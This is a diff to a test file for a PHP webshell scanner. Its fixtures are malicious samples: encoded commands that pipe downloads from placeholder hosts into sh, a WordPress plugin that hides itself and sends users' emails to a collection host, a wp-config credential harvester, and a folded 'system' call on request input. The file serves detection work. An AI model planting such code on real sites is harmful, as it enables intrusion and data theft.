@@ -1,6 +1,7 @@
 import { describe, it } from 'node:test';
 import assert from 'node:assert/strict';
 import { createScanner } from './scanner.js';
+import { foldVariables } from './php-fold.js';
 
 // Session 37: the techniques of the real webshells held-out set H18 missed at its first scan
 // (bench/redteam/README-corpus-s37.md), written again by us as harmless pages, each with look-alikes an
@@ -40,7 +41,7 @@ const MALICIOUS: [string, string, string][] = [
   ],
   ['a command given a base64-decoded literal', '/var/www/html/d.php', `<?php shell_exec(base64_decode("${b64('(wget -qO- http://dl.example.invalid/sh || curl -s http://dl.example.invalid/sh) | sh -s x')}")); echo 'ok'; ?>\n`],
   ['a download piped to sh, decoded from base64 into a variable a command function is given (red team S37A-56)', '/var/www/html/d2.php', `<?php\n$c = base64_decode("${b64('curl -s http://dl.example.invalid/x.sh | sh')}");\n@shell_exec($c . ' > /dev/null 2>&1 &');\necho "OK";\n`],
-  ['a command given a rot13-decoded literal', '/var/www/html/e.php', `<?php system(str_rot13('jtrg -d uggc://qy.rknzcyr.vainyvq/o -B /gzc/o'));\n`],
+  ['a command given a rot13-decoded literal: a download piped to sh', '/var/www/html/e.php', `<?php system(str_rot13('jtrg -dB- uggc://qy.rknzcyr.vainyvq/o | fu'));\n`],
   [
     'a page killing rival miners, downloading a program from a bare address, making it executable and running it from its folder',
     '/var/www/html/f.php',
@@ -54,13 +55,18 @@ const MALICIOUS: [string, string, string][] = [
   [
     'a WordPress plugin taking itself out of the plugins list and removing its own Deactivate link',
     '/var/www/html/wp-content/plugins/x/x.php',
-    `<?php\n/*\nPlugin Name: Speed Helper\n*/\nadd_filter('all_plugins', function ($plugins) { $me = plugin_basename(__FILE__); if (isset($plugins[$me])) unset($plugins[$me]); return $plugins; });\nadd_filter('plugin_action_links_' . plugin_basename(__FILE__), function ($actions) { unset($actions['deactivate']); return $actions; });\nadd_action('wp_head', function () { echo wp_remote_retrieve_body(wp_remote_get('https://ads.example.invalid/x?h=' . home_url())); });\n`,
+    `<?php\n/*\nPlugin Name: Speed Helper\n*/\nadd_filter('all_plugins', function ($plugins) { $me = plugin_basename(__FILE__); if (isset($plugins[$me])) unset($plugins[$me]); return $plugins; });\nadd_filter('plugin_action_links_' . plugin_basename(__FILE__), function ($actions) { unset($actions['deactivate']); return $actions; });\nadd_action('template_redirect', function () { if (!is_user_logged_in() && wp_remote_retrieve_body(wp_remote_get('https://geo.example.invalid/?ip=' . $_SERVER['REMOTE_ADDR'])) === 'go') { wp_redirect('https://ads.example.invalid/'); exit; } });\nadd_action('init', function () { $u = get_users(array('fields' => array('user_email'))); wp_remote_post('https://collect.example.invalid/u', array('body' => array('u' => wp_json_encode($u)))); });\n`,
   ],
   [
     'a script cutting the database logins out of the copies of wp-config it lists and logging in to each',
     '/var/www/html/h.php',
     `<?php\n$out = fopen('found.txt', 'a');\nforeach (glob('*.txt') as $file) {\n  $c = str_replace(' ', '', file_get_contents($file));\n  if (!preg_match("/DB_USER','(.+?)'/", $c, $u) || !preg_match("/DB_PASSWORD','(.+?)'/", $c, $p) || !preg_match("/DB_HOST','(.+?)'/", $c, $h)) continue;\n  $db = @mysqli_connect($h[1], $u[1], $p[1]);\n  if ($db) { fwrite($out, "$h[1];$u[1];$p[1]\\n"); mysqli_close($db); }\n}\n`,
   ],
+];
+
+// (suspicious, not malicious: a vendor's feed printed from a hidden address, a cache plugin expiring files by days and
+// skipping administrators have the same shapes, red team S37B)
+const SUSPICIOUS: [string, string, string][] = [
   [
     'a theme header printing what a server sends, its address hidden in base64 (H18\'s "unsure" spam injector)',
     '/var/www/html/wp-content/themes/t/header.php',
@@ -158,7 +164,15 @@ describe('scan: the techniques of held-out set H18 (session 37)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 13));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 11));
+
+  for (const [name, path, src] of SUSPICIOUS) {
+    it(`suspicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'suspicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
+    });
+  }
+  it('ran every suspicious form', () => assert.equal(SUSPICIOUS.length, 2));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -167,6 +181,15 @@ describe('scan: the techniques of held-out set H18 (session 37)', () => {
     });
   }
   it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 15));
+
+  // (red team S37B: a table of 200 calls of one function, looked up again and again, took a 3 KB file 40 s; each call with
+  // the same arguments is worked out once while no name changes, so the table folds within the calls' budget)
+  // (two lookups of a table of 200 calls are 400 calls, past the budget of 256 when each is worked out again)
+  it('works out a table of 200 calls of the same function once, and folds what it gives', () => {
+    const src = `<?php\nfunction g() { return 'sys'; }\nfunction f($i) { $t = array(${Array.from({ length: 200 }, () => 'g()').join(', ')}, 'tem'); return $t[$i]; }\n$a = f(0) . f(200);\n$a($_GET['c']);\n`;
+    const folded = foldVariables(src) ?? '';
+    assert.match(folded, /'system'\(\$_GET\['c'\]\)/);
+  });
 
   // (red team S37A-1, -2: the first eval-wrapper pattern had two runs of spaces side by side, and a function of one
   // parameter before a megabyte of spaces was read for minutes; each such file is scanned in process, without the bound)
